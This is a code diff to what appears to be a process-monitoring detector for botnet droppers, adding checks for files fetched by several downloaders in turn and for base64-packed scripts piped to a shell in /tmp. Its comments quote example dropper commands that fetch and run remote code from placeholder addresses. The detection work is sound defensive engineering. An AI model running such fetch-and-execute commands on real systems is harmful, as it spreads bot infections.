@@ -1,9 +1,19 @@
 /** Reads a started process for the marks of bots that `bots.ts` knows. */
 import type { ProcessStarted } from "../../events/fact.ts";
 import { isPublicAddress, parseUrl } from "./addresses.ts";
-import { botLair, botName, botWords, dropperName, nonsenseApplet, payloadArchitecture, throwawayFile } from "./bots.ts";
+import {
+  botLair,
+  botName,
+  botWords,
+  dropperName,
+  embeddedPayload,
+  nonsenseApplet,
+  payloadArchitecture,
+  throwawayFile,
+} from "./bots.ts";
 import { type Command, type CommandLine, commandLine, resolvePath } from "./command.ts";
 import { type Fetch, fetchOf } from "./fetchers.ts";
+import { isShell } from "./interpreters.ts";
 import { killedNames } from "./kills.ts";
 import { basename, inTemporaryDirectory } from "./paths.ts";
 import { type Program, programsIn } from "./programs.ts";
@@ -25,7 +35,13 @@ export function strongMark(started: ProcessStarted): Mark | undefined {
     const found = applet(command) ?? headerRead(command) ?? byPayload(command) ?? byWords(command) ?? rival(command);
     if (found) return found;
   }
-  return takeover(commands) ?? loaderLine(commands) ?? everyProcessor(commandLine(started.process));
+  return (
+    takeover(commands) ??
+    loaderLine(commands) ??
+    everyFetcher(commands) ??
+    packedScript(commands) ??
+    everyProcessor(commandLine(started.process))
+  );
 }
 
 function byProgram({ path, written, script }: Program): Mark | undefined {
@@ -33,7 +49,12 @@ function byProgram({ path, written, script }: Program): Mark | undefined {
   const name = botName(path);
   if (name && (placed || name !== "reaper")) return { mark: name, reason: `${name} is the name of a bot` };
   if (botLair(path)) return { mark: path.slice(0, 128), reason: `${path.slice(0, 128)} is a known bot's place` };
-  if (placed && payloadArchitecture(path) && (inTemporaryDirectory(path) || /(?:^|\/)\.[^/]+\//.test(path))) {
+  const hidden = inTemporaryDirectory(path) || /(?:^|\/)\.[^/]+\//.test(path);
+  if (
+    placed &&
+    ((hidden && (payloadArchitecture(path) || embeddedPayload(path, true))) ||
+      (!script && embeddedPayload(path, false)))
+  ) {
     return { mark: basename(path), reason: `a payload named for a processor is run: ${path.slice(0, 128)}` };
   }
   return undefined;
@@ -164,6 +185,36 @@ function loaderLine(commands: readonly Command[]): Mark | undefined {
   const fetches = commands.filter((command) => fetchOf(command));
   if (tried.length < 3 || fetches.length === 0) return undefined;
   return { mark: "loader line", reason: `tries ${tried.join(", ")} in turn and fetches there` };
+}
+
+/** One file tried with one fetcher after another from a bare address: `wget http://192.0.2.1/x; curl -O http://192.0.2.1/x`. */
+function everyFetcher(commands: readonly Command[]): Mark | undefined {
+  const tried = new Map<string, string>();
+  for (const command of commands) {
+    const fetch = fetchOf(command);
+    if (!fetch?.hosts.some(isPublicAddress)) continue;
+    for (const { host, file } of sources(fetch)) {
+      const before = tried.get(`${host}/${file}`);
+      if (before !== undefined && before !== command.name)
+        return { mark: "every fetcher", reason: `tries ${before} and ${command.name} for ${file} from ${host}` };
+      if (tried.size < 64) tried.set(`${host}/${file}`, command.name);
+    }
+  }
+  return undefined;
+}
+
+/** `cd /tmp; echo <base64> | base64 -d | bash`: how Outlaw's dropper arrives. */
+function packedScript(commands: readonly Command[]): Mark | undefined {
+  const decode = commands.find(
+    ({ name, args }) => name === "base64" && args.some((arg) => /^(?:-d|-D|--decode)$/.test(arg)),
+  );
+  if (!decode || !inTemporaryDirectory(decode.cwd)) return undefined;
+  const beside = commands.filter(({ pipeline }) => pipeline === decode.pipeline);
+  const before = beside.some(({ name, stage }) => name === "echo" && stage < decode.stage);
+  const after = beside.some(({ name, stage }) => isShell(name) && stage > decode.stage);
+  return before && after
+    ? { mark: "packed script", reason: `unpacks a script and runs it in ${decode.cwd}` }
+    : undefined;
 }
 
 /** `for a in mips arm x86; do wget http://203.0.113.9/$a ...`: one payload for every processor. */
